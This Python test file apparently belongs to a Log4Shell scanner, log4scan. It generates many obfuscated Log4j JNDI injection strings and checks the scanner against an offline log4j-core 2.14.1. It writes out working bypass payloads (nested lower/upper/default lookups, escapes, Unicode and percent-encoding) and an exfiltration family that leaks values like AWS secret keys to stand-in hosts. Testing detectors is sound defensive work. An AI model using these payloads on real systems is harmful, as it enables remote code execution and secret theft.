"""t_logs_jvm.py - `log4scan logs` against the real log4j-core 2.14.1.

Generates many strings (seeded, so a failure reproduces: T_LOGS_JVM_SEED,
T_LOGS_JVM_N) in families that each exercise one part of Log4j's
behaviour: obfuscated `${jndi:` spelt with lower/upper/defaults/date/
unknown and host prefixes, escapes (`$${`, `$$$${`) with and without later
`${` that make MessagePatternConverter substitute the message again,
values that are a '$' (`${::-$}{jndi:`), lookups that always resolve on a
JVM used as defaults (broken attempts), lookups that throw (java:unknown,
a variable in its own default, event:Message) before or after the payload,
unclosed `${`, the `:\\-` escape of the default delimiter, Unicode
look-alikes, percent-encoding (once, twice, of the escape itself), padding
past log4scan's bounds, and random compositions of all of these.

Each string is one line of a log file given to log4scan; the same string
is asked of tests/java/Log4jProbe.java (log4j-core + log4j-api 2.14.1 from
the corpus, a recording jndi lookup, no network): through a PatternLayout
"%m" (the logging path, which decides) and one StrSubstitutor.replace
(reported).  For a percent-encoded line the JVM is asked about each
decoding of it (Python's urllib, not log4scan's decoder): an application
may log it decoded or not.  Then, per line:
  - the JVM performed a jndi lookup: log4scan reports it "performed", or
    "bound" when the line was built past one of log4scan's bounds;
  - it did not: log4scan reports nothing "performed"; "performed_alone" is
    accepted only when the JVM performs it for the text from that record's
    offset on (asked in a second round); "broken" is counted;
  - the decoded names agree where they hold no host value.
Every disagreement is a `not ok` line with the string.  Counts are printed.
"""
import base64
import json
import os
import random
import shutil
import subprocess
import sys
import urllib.parse

L4S = os.environ.get("L4S", "build/san/log4scan")
OUT = os.environ.get("OUT", "tests/out/t_logs_jvm")
TOP = os.environ.get("TOP", ".")
CORPUS = os.environ.get("CORPUS", os.path.join(TOP, "..", "shared", "corpus"))
SEED = int(os.environ.get("T_LOGS_JVM_SEED", "16"))
N_RANDOM = int(os.environ.get("T_LOGS_JVM_N", "1500"))
MSG_MAX = 16 << 10      # LH_MSG_MAX
DEPTH_MAX = 128         # LK_MAX_DEPTH
os.makedirs(OUT, exist_ok=True)
rng = random.Random(SEED)
failures = 0


def ok(name, cond, why=""):
    global failures
    if cond:
        print("ok " + name)
    else:
        failures += 1
        print("not ok " + name + (" - " + why if why else ""))
    return cond


# ---- the JVM ---------------------------------------------------------------

def find_jars():
    core = os.path.join(CORPUS, "log4j-samples/true-hits/log4j-core-2.14.1.jar")
    api = os.path.join(CORPUS, "log4j-samples/false-hits/log4j-api-2.14.1.jar")
    return core, api


def start_probe():
    core, api = find_jars()
    if not (os.path.isfile(core) and os.path.isfile(api)):
        ok("log4j-core and log4j-api 2.14.1 in the corpus", False, "%s %s" % (core, api))
        sys.exit(0)
    if not shutil.which("javac") or not shutil.which("java"):
        ok("java and javac installed", False)
        sys.exit(0)
    cls = os.path.join(OUT, "cls")
    os.makedirs(cls, exist_ok=True)
    r = subprocess.run(["javac", "-nowarn", "-cp", core + ":" + api, "-d", cls,
                        os.path.join(TOP, "tests/java/Log4jProbe.java")], capture_output=True, text=True)
    if not ok("Log4jProbe compiles against log4j 2.14.1", r.returncode == 0, r.stderr[-500:]):
        sys.exit(0)
    cmd = ["java", "-Xss16m", "-Duser.language=en", "-Duser.country=US", "-Duser.timezone=UTC",
           "-cp", ":".join([core, api, cls]), "Log4jProbe"]
    # no network at all when the kernel lets us (root: a new network namespace)
    if shutil.which("unshare") and subprocess.run(["unshare", "-n", "true"], capture_output=True).returncode == 0:
        cmd = ["unshare", "-n"] + cmd
        print("# the JVM runs without a network (unshare -n)")
    else:
        print("# unshare -n unavailable: the recording lookup alone keeps the JVM off the network")
    # only PATH in the environment: env:NAME lookups of the cases are absent
    return cmd


def ask_jvm(cmd, strings):
    """{string: (pattern_names, pattern_exc, replace_names, replace_exc)}"""
    uniq = sorted(set(strings))
    inp = "".join(base64.b64encode(s.encode("utf-8", "surrogatepass")).decode() + "\n" for s in uniq)
    p = subprocess.run(cmd, input=inp.encode(), capture_output=True, env={"PATH": os.environ["PATH"]},
                       timeout=1800)
    lines = p.stdout.decode().splitlines()
    if len(lines) != len(uniq):
        ok("the JVM answers every string", False, "%d answers for %d strings: %s" %
           (len(lines), len(uniq), p.stderr.decode()[-800:]))
        sys.exit(0)

    def names(f):
        return [] if f == "-" else [base64.b64decode(x).decode("utf-8", "replace") for x in f.split(",")]
    res = {}
    for s, l in zip(uniq, lines):
        f = l.split("\t")
        res[s] = (names(f[2]), f[1], names(f[5]), f[4])
    return res


# ---- the cases ---------------------------------------------------------------

ABSENT = ["env:NOPE", "env:BARFOO", "sys:nope.x", "ctx:x", "main:x", "k8s:k5", "foo:bar", "", "docker:x",
          "spring:x", "web:x", "marker:x", "map:x", "bundle:a:b", "jvmrunargs:x", "log4j:nope", "sd:x",
          "event:Marker", "event:Exception", "event:x", "env:USER", "sys:java.nope", "nope:x:y"]
ALWAYS = ["sys:java.version", "java:version", "env:PATH", "hostName", "env:hostName", "sys:os.name",
          "sys:user.dir", "java:os", "event:Level", "foo:contextName", "sys:java.vm.name", "java:locale",
          "sys:file.encoding", "event:ThreadName"]


def obf(ch, depth=0, broken_ok=False):
    """A string Log4j evaluates to ch (or, with broken_ok, perhaps a string
    that an attacker thought would: an always-resolving lookup's default)."""
    k = rng.randrange(14 if depth < 3 else 8)
    if k < 3:
        return ch
    if k == 3:
        return "${lower:%s}" % ch
    if k == 4:
        return "${upper:%s}" % ch
    if k == 5:
        return "${::-%s}" % ch
    if k == 6:
        return "${%s:-%s}" % (rng.choice(ABSENT), ch)
    if k == 7:
        return "${date:'%s'}" % ch if ch != "'" else "${date:''}"
    if k == 8:
        return "${lower:%s}" % obf(ch, depth + 1, broken_ok)
    if k == 9:
        return "${::-%s}" % obf(ch, depth + 1, broken_ok)
    if k == 10:
        return "${%s:-%s}" % (rng.choice(ABSENT), obf(ch, depth + 1, broken_ok))
    if k == 11 and broken_ok:
        return "${%s:-%s}" % (rng.choice(ALWAYS), ch)
    if k == 12 and ch.lower() == "i":
        return rng.choice(["${upper:\u0131}", "${upper:${::-\u0131}}"])
    if k == 13:
        return "${::-%s}" % "".join(obf(c, depth + 2, broken_ok) for c in ch)
    return ch


def obf_word(w, broken_ok=False):
    return "".join(obf(c, 0, broken_ok) for c in w)


def host(i):
    return "h%d.example" % i


def payload(i, broken_ok=False, scheme=None):
    scheme = scheme or rng.choice(["ldap", "rmi", "dns", "ldaps", "iiop"])
    prefix = obf_word(rng.choice(["jndi", "JNDI", "jNdI"]), broken_ok)
    colon = obf(":", 0, broken_ok) if rng.random() < 0.3 else ":"
    sch = obf_word(scheme) if rng.random() < 0.4 else scheme
    tail = rng.choice(["/a", "/Basic/Command/Base64/aWQ=", "/${env:NOPE_X}", "/${hostName}", "/o"])
    return "${" + prefix + colon + sch + "://" + host(i) + tail + "}"


def fam_obfuscated(i):
    return payload(i)


def fam_broken(i):
    return payload(i, broken_ok=True)


def fam_escapes(i):
    p = payload(i)
    pre = rng.choice(["$", "$$", "$$$", "$$$$", "a$", "$ "])
    post = rng.choice(["", " ${x}", "${x}", " ${a}${b}", " ${a} ${b} ${c}", " $${y}", " ${java:version}",
                       " ${::-z}", " ${"])
    return pre + p + post


def fam_value_dollar(i):
    p = payload(i)
    dollar = rng.choice(["${::-$}", "${lower:$}", "${upper:$}", "${date:'$'}", "${env:NOPE:-$}",
                         "${::-${::-$}}", "${sys:nope:-$}"])
    body = p[1:] if rng.random() < 0.8 else p   # "{jndi:...}" after the '$'
    post = rng.choice(["", " ${x}", "${x}", " ${a}${b}", " x", "${::-$}{y}"])
    return dollar + body + post


def fam_throw(i):
    p = payload(i)
    t = rng.choice(["${java:foo}", "${java:${::-x}}", "${x:-$${x}}", "${event:Message}",
                    "${a:-${event:Message}}", "${jndi:q:-$${jndi:q}}"])
    sep = rng.choice([" ", "", " text "])
    return t + sep + p if rng.random() < 0.6 else p + sep + t


def fam_unclosed(i):
    p = payload(i)
    pre = rng.choice(["${", "${jndi:x ", "${lower:", "${::-", "$${", "${${"])
    return pre + rng.choice([" ", "", "abc "]) + p + rng.choice(["", "}", " }", " ${x}"])


def fam_escape_delimiter(i):
    h = host(i)
    return rng.choice([
        "${jndi:ldap://%s/a:\\-x}" % h,
        "${jndi:ldap://%s/a:\\-x:-y}" % h,
        "${${::\\-j}ndi:ldap://%s/a}" % h,
        "${j${x:\\-y:-n}di:ldap://%s/a}" % h,
        "${${::-j}ndi:ldap://%s:\\-1389/a}" % h,
        "${${env:NOPE:\\-j}ndi:ldap://%s/a}" % h,
    ])


def fam_unicode(i):
    h = host(i)
    look = rng.choice(["\u0131", "\u0130", "\u212a", "\u017f", "\ufb01", "\uff4a", "\u0456", "\u0458",
                       "\u0399", "I\u0307"])
    return rng.choice([
        "${jnd${upper:%s}:ldap://%s/a}" % (look, h),
        "${jnd${lower:%s}:ldap://%s/a}" % (look, h),
        "${jnd%s:ldap://%s/a}" % (look, h),
        "${${upper:j}nd${upper:%s}:ldap://%s/a}" % (look, h),
        "${j${lower:%s}ndi:ldap://%s/a}" % (look, h),
        "${%sndi:ldap://%s/a}" % (look, h),
    ])


def pct(s, chars, level):
    out = s
    for _ in range(level):
        out = "".join("%%%02X" % ord(c) if c in chars else c for c in out)
        chars = chars + "%"
    return out


def fam_percent(i):
    base = rng.choice([payload(i), "$" + payload(i), "$" + payload(i) + " ${x}", payload(i) + " x",
                       "${::-$}" + payload(i)[1:] + "${x}"])
    chars = rng.choice(["${}", "$", "{}", "${}:/", "$"])
    enc = pct(base, chars, rng.choice([1, 1, 2]))
    # partly: only some of the escapes, or a raw '$' before an encoded one
    if rng.random() < 0.3:
        enc = rng.choice(["$", "%24", "%2524"]) + enc
    return enc


PADDINGS = 6


def fam_padding(i, k):
    h = host(i)
    if k == 0:      # one expression longer than the window
        return "${${" + "x" * (MSG_MAX + rng.randrange(3000)) + ":-}jndi:ldap://%s/a}" % h
    if k == 1:
        return "${jndi:ldap://%s/" % h + "a" * (MSG_MAX + rng.randrange(5000)) + "}"
    if k == 2:      # the second pass triggered from beyond the window
        return "$${jndi:ldap://%s/a}" % h + " " * (MSG_MAX + rng.randrange(5000)) + "${x}"
    if k == 3:      # nesting deeper than the evaluator goes
        d = DEPTH_MAX + 20 + rng.randrange(50)
        return "${lower:" * d + "${jndi:ldap://%s/a}" % h + "}" * d
    if k == 4:      # passes: each strips one '$' of the escape
        n = rng.choice([500, 600])
        return "$" * n + "{jndi:ldap://%s/a}" % h + "${a}" * n
    return "${" + " " * (MSG_MAX + 100) + "jndi:ldap://%s/a}" % h   # not a lookup: " jndi"


def fam_exfil(i):
    h = host(i)
    leak = rng.choice(["${env:AWS_SECRET_ACCESS_KEY}", "${sys:java.version}", "${java:version}", "${hostName}",
                       "${env:USER:-nobody}", "${ctx:loginId}", "${main:0}", "${sys:user.name}"])
    return rng.choice(["${jndi:ldap://%s.%s/a}" % (leak, h), "${jndi:dns://%s/%s}" % (h, leak),
                       "${${::-j}ndi:ldap://%s/%s}" % (h, leak)])


def fam_broken_syntax(i):
    h = host(i)
    return rng.choice([
        "$ {jndi:ldap://%s/a}" % h, "${jndi :ldap://%s/a}" % h, "${ jndi:ldap://%s/a}" % h,
        "{jndi:ldap://%s/a}" % h, "${jndi}", "${jndi:}", "${jndl:ldap://%s/a}" % h,
        "${${lower:jndl}:ldap://%s/a}" % h, "${jndi-ldap://%s/a}" % h, "$${jndi:ldap://%s/a}" % h,
        "${${::-j}ndi%sldap://%s/a}" % (rng.choice(["", "-", ";"]), h), "${jndi:ldap://%s/a" % h,
        "${{jndi:ldap://%s/a}}" % h, "${lower:${jndi:ldap://%s/a}" % h, "${jndi:ldap://%s/a}}}" % h,
        "${date:'j'ndi:ldap://%s/a}" % h, "${date:j}${jndi:ldap://%s/a}" % h,
        "${${sys:path.separator}jndi:ldap://%s/a}" % h, "${jndi${sys:path.separator}ldap://%s/a}" % h,
    ])


FRAGS = ["$", "{", "}", ":", "-", ":-", "${", "$${", "j", "n", "d", "i", "jndi", "ldap://x/", "${lower:",
         "${upper:", "${::-", "${env:NOPE:-", "${date:'", "'", "${java:version}", "${sys:java.version:-",
         " ", "${x}", "\\", "${jndi:", "${::-$}", "%24", "%7B", "%7D", "\u0131", "${hostName}", ":\\-"]


def fam_random(i):
    n = rng.randrange(3, 18)
    s = "".join(rng.choice(FRAGS) for _ in range(n))
    if rng.random() < 0.5:
        s += "${jndi:ldap://%s/r}" % host(i) if rng.random() < 0.3 else payload(i)
        s += "".join(rng.choice(FRAGS) for _ in range(rng.randrange(4)))
    return s


WORDS = ["j", "n", "d", "i", "J", "N", "D", "I", "jndi", "jnd", "ndi", "ldap://g.example/a", "lower", "upper",
         "date", "'", "''", "env", "sys", "java", "version", "PATH", "NOPE", "hostName", "event", "Message",
         ":", ":", ":-", ":-", ":\\-", "-", "$", "$", "$$", "{", "}", " ", "x", "\u0131", "::-", "java.version",
         "path.separator", "'$'", "jndi:", "${", "a"]


def grammar_expr(depth):
    """A random lookup: "${" parts "}", parts being words or lookups."""
    parts = []
    for _ in range(rng.randrange(1, 6)):
        if depth < 4 and rng.random() < 0.35:
            parts.append(grammar_expr(depth + 1))
        else:
            parts.append(rng.choice(WORDS))
    return "${" + "".join(parts) + "}"


def fam_grammar(i):
    out = []
    for _ in range(rng.randrange(1, 4)):
        out.append(rng.choice(["", "", " ", "$", "$$", "x"]))
        out.append(grammar_expr(0))
    if rng.random() < 0.3:
        out.append(payload(i))
    return "".join(out)


def fam_multi(i):
    """Two attempts on one line, with something between that may stop Log4j."""
    between = rng.choice([" ", " ${ ", " ${java:nope} ", " ${x:-$${x}} ", " $", " ${::-$}", " } ",
                          " ${lower:", " %24%7B "])
    return payload(i) + between + payload(i + 1)


FAMILIES = [fam_obfuscated, fam_broken, fam_escapes, fam_value_dollar, fam_throw, fam_unclosed,
            fam_escape_delimiter, fam_unicode, fam_percent, fam_exfil, fam_broken_syntax, fam_random,
            fam_grammar, fam_grammar, fam_grammar, fam_multi]
# fixed cases of the issue and of the README, then the random families
FIXED = [
    "${jndi:ldap://f1.example/a}", "$${jndi:ldap://f2.example/a} ${x}", "${::-$}{jndi:ldap://f3.example/a}${x}",
    "$${jndi:ldap://f4.example/a}", "${::-$}{jndi:ldap://f5.example/a}", "${sys:java.version:-j}ndi",
    "${${sys:java.version:-j}ndi:ldap://f6.example/a}", "${${java:version:-j}ndi:ldap://f7.example/a}",
    "%24%24%7Bjndi:ldap://f8.example/a%7D", "%24%24%7Bjndi:ldap://f9.example/a%7D %24%7Bx%7D",
    "$%24%7Bjndi:ldap://f10.example/a%7D", "%24${jndi:ldap://f11.example/a}",
]


def decodings(line):
    """The line and each URL decoding of it (until nothing changes)."""
    out = [line]
    while len(out) < 5:
        d = urllib.parse.unquote(out[-1], errors="surrogateescape")
        if d == out[-1]:
            break
        out.append(d)
    return out


def main():
    cases = [("fixed", s) for s in FIXED]
    for fam in FAMILIES:
        for i in range(N_RANDOM // len(FAMILIES)):
            cases.append((fam.__name__[4:], fam(len(cases))))
    for k in range(PADDINGS):
        for _ in range(2):
            cases.append(("padding", fam_padding(len(cases), k)))
    cases = [(f, s) for f, s in cases if "\n" not in s and "\r" not in s]

    cmd = start_probe()
    asks = {}
    for f, s in cases:
        for d in decodings(s):
            asks[d] = True
    jvm = ask_jvm(cmd, list(asks))

    # log4scan: every case one line of one file
    log = os.path.join(OUT, "cases.log")
    starts = []
    with open(log, "wb") as fh:
        off = 0
        for f, s in cases:
            b = s.encode("utf-8", "surrogateescape") + b"\n"
            starts.append(off)
            fh.write(b)
            off += len(b)
    p = subprocess.run([L4S, "logs", "--format", "json", log], capture_output=True, timeout=1800)
    ok("log4scan ran", p.returncode in (0, 1) and b"Sanitizer" not in p.stderr, p.stderr.decode()[-500:])
    recs = [json.loads(l) for l in p.stdout.decode().splitlines() if l.strip()]
    by_line = {}
    for r in recs:
        if r["kind"] == "attempt":
            by_line.setdefault(r["line"], []).append(r)

    # the second round: text from a performed_alone record's offset on
    alone_asks = {}
    for ln, rs in by_line.items():
        data = cases[ln - 1][1].encode("utf-8", "surrogateescape")
        for r in rs:
            if r.get("status") == "performed_alone":
                suffix = data[r["offset"] - starts[ln - 1]:].decode("utf-8", "surrogateescape")
                for d in decodings(suffix):
                    alone_asks[d] = True
    jvm.update(ask_jvm(cmd, list(alone_asks)) if alone_asks else {})

    def reached(s, path=0):
        return any(jvm[d][path] for d in decodings(s))

    counts = {k: 0 for k in ("cases", "jvm_reached", "performed", "performed_alone", "bound", "broken",
                             "bound_unreached", "replace_agrees", "names_compared", "disagreements")}
    fam_counts = {}
    for ln, (fam, s) in enumerate(cases, 1):
        counts["cases"] += 1
        fc = fam_counts.setdefault(fam, [0, 0, 0])
        fc[0] += 1
        rs = by_line.get(ln, [])
        st = [r.get("status", "performed") for r in rs]
        want = reached(s)
        counts["jvm_reached"] += want
        fc[1] += want
        for k in ("performed", "performed_alone", "bound", "broken"):
            counts[k] += k in st
        got = "performed" in st
        bounded = "bound" in st
        show = s if len(s) < 300 else s[:120] + "...(%d chars)..." % len(s) + s[-60:]
        why = None
        if want and not got and not bounded:
            why = "the JVM performs %r, log4scan reports %s" % (
                [n for d in decodings(s) for n in jvm[d][0]][:3], st or "nothing")
        elif got and not want:
            why = "log4scan reports %r performed, the JVM performs nothing (%s)" % (
                [r["decoded"] for r in rs if r.get("status", "performed") == "performed"],
                "; ".join(jvm[d][1] for d in decodings(s)))
        elif bounded and not want:
            if len(s.encode()) > MSG_MAX or s.count("${") > DEPTH_MAX:
                counts["bound_unreached"] += 1     # past a bound: undecided, said so
            else:
                why = "log4scan reports a bound on a short line the JVM does not look up"
        elif "broken" in st and want:
            why = "log4scan calls it broken, the JVM performs it"
        if not why:
            data = s.encode("utf-8", "surrogateescape")
            for r in rs:
                if r.get("status") == "performed_alone":
                    suf = data[r["offset"] - starts[ln - 1]:].decode("utf-8", "surrogateescape")
                    if not reached(suf):
                        why = "performed_alone at offset %d, the JVM performs nothing from there" % (
                            r["offset"] - starts[ln - 1])
        if not why and got and want:
            # names, where no host value is in them
            theirs = {"jndi:" + n for d in decodings(s) for n in jvm[d][0]}
            ours = {r["decoded"] for r in rs if r.get("status", "performed") == "performed"}
            plain = {n for n in ours if "${" not in n}
            if plain and len(theirs) <= 16:
                # every name of log4scan's is one the JVM looked up; the
                # same sets when none holds a host value and the line has
                # one reading (log4scan names a lookup after its decoding)
                counts["names_compared"] += 1
                exact = plain == ours and len(decodings(s)) == 1
                if not plain <= theirs or (exact and ours != theirs):
                    why = "names differ: log4scan %r, the JVM %r" % (sorted(ours), sorted(theirs))
        if why:
            counts["disagreements"] += 1
            fc[2] += 1
            ok("%s %d agrees with Log4j 2.14.1" % (fam, ln), False, "%s: %r" % (why, show))
        # the single StrSubstitutor.replace, for the record
        counts["replace_agrees"] += (got or bounded) == reached(s, 2)
    print("# cases %(cases)d, JVM performs a lookup for %(jvm_reached)d; log4scan: performed %(performed)d, "
          "performed_alone %(performed_alone)d, bound %(bound)d (of which %(bound_unreached)d past a bound "
          "and not looked up), broken %(broken)d; names compared %(names_compared)d; "
          "disagreements %(disagreements)d" % counts)
    print("# one StrSubstitutor.replace (no event, one pass) agrees with log4scan's verdict on %d of %d"
          % (counts["replace_agrees"], counts["cases"]))
    for fam, (n, r, d) in sorted(fam_counts.items()):
        print("#   %-18s %5d cases, %5d looked up by the JVM, %d disagreements" % (fam, n, r, d))
    ok("every case agrees with Log4j 2.14.1 (%d cases)" % counts["cases"], counts["disagreements"] == 0,
       "%d disagreements" % counts["disagreements"])
    ok("the families cover both outcomes", all(0 < r < n for f, (n, r, d) in fam_counts.items()
                                               if f not in ("fixed", "padding", "obfuscated", "exfil", "multi")),
       "%r" % fam_counts)
    ok("every padding shape past a bound is reported as bound",
       all("bound" in [r.get("status") for r in by_line.get(ln, [])] or not reached(s)
           for ln, (f, s) in enumerate(cases, 1) if f == "padding"))


main()
